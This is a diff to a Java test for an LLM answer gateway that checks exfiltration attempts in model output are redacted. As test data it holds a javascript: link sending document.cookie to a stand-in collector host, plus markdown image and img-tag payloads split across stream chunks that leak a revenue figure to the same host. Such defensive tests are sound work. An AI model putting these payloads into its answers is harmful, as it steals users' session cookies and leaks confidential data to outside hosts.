@@ -239,6 +239,11 @@ class AnswerGatewayTest {
         String line = gw.accessLine(r.headers().firstValue("X-Request-Id").orElseThrow());
         assertThat(line).contains("\"guard_answer\":{\"action\":\"redact\",\"entities\":{\"REMOTE_IMAGE\":1}").doesNotContain("collector", "revenue");
 
+        answerWhole("Session expired: [sign in again](javascript:location='https://collector.example.net/?c='+document.cookie).");
+        HttpResponse<String> link = gw.postJson("/v1/chat/completions", key, chat("help", false));
+        assertThat(new JsonObject(link.body()).getJsonArray("choices").getJsonObject(0).getJsonObject("message").getString("content"))
+                .isEqualTo("Session expired: [SCRIPT_LINK].");
+
         AtomicBoolean ended = new AtomicBoolean();
         List<String> pieces = new java.util.ArrayList<>(List.of("Here is the summary. ![load", "ing](https://coll", "ector.example.net/log?d=Q3%20rev",
                 "enue%20was%2012.4M) Anything else? ", "<img src=\"https://collector.example.net/p?d=", "more\"> done. "));
